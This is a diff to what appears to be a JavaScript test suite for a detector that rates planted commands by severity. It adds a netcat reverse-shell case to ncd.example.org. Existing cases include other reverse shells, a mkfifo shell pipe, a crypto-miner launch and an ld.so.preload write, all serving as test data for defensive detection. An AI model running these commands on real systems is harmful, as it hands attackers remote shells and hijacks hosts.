@@ -32,6 +32,7 @@ describe('what was planted is recognized', () => {
     ['setsid flock -n /tmp/.lock ./run.sh /tmp/.lock', 'high', ['hiddenTmp']],
     ['rm -f /dev/shm/.x.lock', 'medium', ['hiddenTmp']],
     ['nc -e /bin/sh 198.51.100.7 4444', 'critical', ['revShell']],
+    ['nc ncd.example.org 4444 -e /bin/sh', 'critical', ['revShell']],
     ['mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 1 > /tmp/f', 'critical', ['revShell']],
     ['./minerd -o stratum+tcp://pool.example.net:3333', 'critical', ['miner']],
     ['echo /usr/lib/x.so > /etc/ld.so.preload', 'high', ['immutable']],
